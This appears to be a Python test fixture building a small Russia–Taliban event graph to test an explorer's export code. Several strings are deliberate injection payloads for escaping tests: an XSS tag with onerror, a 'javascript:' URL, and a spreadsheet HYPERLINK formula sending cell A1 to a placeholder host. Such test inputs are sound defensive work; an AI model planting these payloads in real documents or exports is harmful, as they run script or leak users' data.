"""A small graph with its evidence for the tests of exports; some of its texts try to be more than text."""

from typing import Any

from cypher.evidence import Evidence, Parties
from explorer.export.contents import About, LoadedContents
from graph.stored_graph import Graph, Node, Relationship

HOSTILE = "</script><img src=x onerror=\"document.title='owned'\"> & 'kutip' \"ganda\" \\n ${x} \u2028 ]]> `tik`"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"klik")'


def node(id: str, label: str, **properties: Any) -> Node:
    """A node as the database gives it: its id is among its properties."""
    return Node(id, label, {"id": id, **properties})


RUSSIA = node("country:RU", "Country", name="Rusia", iso="RU", aliases=["Rusia", "Moskow"], articles=3)
TALIBAN = node("organization:taliban", "Organization", name="Taliban", aliases=["Taliban"], kind="armed group")
PUTIN = node("actor:vladimir-putin", "Actor", name="Vladimir Putin", aliases=[])
SOVIET = node("country:SUHH", "Country", name="Uni Soviet", iso="SU")
KABUL = node("place:kabul", "Place", name="Kabul")
CSTO = node("organization:csto", "Organization", name=HOSTILE, aliases=["CSTO", FORMULA])
TALKS = node(
    "event:aa11",
    "Event",
    type="CONSULT",
    mode=["visit"],
    context=["diplomatic", "military"],
    quad_class="verbal cooperation",
    score=2.5,
    modality="asserted",
    historical=False,
    disputed=True,
    date="2017-04",
    date_precision="month",
    sentences=3,
    outlet_names=["Contoh.id", "Lain.id"],
    summary="kontak antara Rusia dan Taliban",
)
DENIAL = node(
    "event:bb22",
    "Event",
    type="REJECT",
    mode=[],
    context=[],
    quad_class="verbal conflict",
    score=-2.0,
    modality="negated",
    summary=FORMULA,
)

ONE = Evidence(
    "article:1#3",
    "Rusia dan Taliban bertemu di Kabul.",
    "article:1",
    "Kontak",
    "2017-04-09",
    "Contoh.id",
    "https://192.0.2.1/1",
    3,
)
TWO = Evidence("article:2#0", HOSTILE, "article:2", FORMULA, "2015-01-02", None, "javascript:alert(1)", 0)


def _told(type_: str, source: str, target: str, **properties: Any) -> Relationship:
    return Relationship(type_, source, target, {**properties, "sentences": 1})


GRAPH = Graph(
    (RUSSIA, TALIBAN, PUTIN, SOVIET, KABUL, CSTO, TALKS, DENIAL),
    (
        Relationship("ACTS_IN", "country:RU", "event:aa11"),
        Relationship("ACTS_IN", "organization:taliban", "event:aa11"),
        Relationship("TAKES_PLACE_IN", "event:aa11", "place:kabul"),
        Relationship("ACTS_IN", "organization:taliban", "event:bb22"),
        Relationship("IS_RECIPIENT_OF", "country:RU", "event:bb22"),
        Relationship("MEMBER_OF", "country:RU", "organization:csto", {"status": "member", "sentences": 1, "confidence": 0.9}),
        Relationship("LEADS", "country:RU", "organization:csto", {"sentences": 1, "confidence": 0.5}),
        Relationship(
            "HOLDS_POSITION",
            "actor:vladimir-putin",
            "country:RU",
            {"title": "Presiden", "sentences": 1, "confidence": 1},
        ),
        Relationship("PART_OF", "country:RU", "country:SUHH", {"sentences": 1, "confidence": 0.4}),
        Relationship("BORDERS", "country:RU", "country:SUHH", {"length_km": 1200.5, "sentences": 2}),
    ),
)
_EVIDENCE = {
    "country:RU": (ONE, TWO),
    "event:aa11": (ONE, TWO),
    "event:bb22": (TWO,),
    **{each.id: (ONE, TWO) if "event:aa11" in each.id else (TWO,) for each in GRAPH.relationships},
}
_PARTIES = {
    "event:aa11": Parties((RUSSIA, TALIBAN), (), (KABUL,)),
    "event:bb22": Parties((TALIBAN,), (RUSSIA,), ()),
}
POSITIONS = {each.id: (120.0 * number, 80.0 * (number % 3)) for number, each in enumerate(GRAPH.nodes)}
ABOUT = About(HOSTILE, "russia_taliban_contacts", {"first": "country:RU", "limit": 5}, made_at="2026-01-02T03:04:05+00:00")


def sample() -> LoadedContents:
    """The sample as an export takes it."""
    return LoadedContents(GRAPH, ABOUT, _EVIDENCE, _PARTIES, POSITIONS)
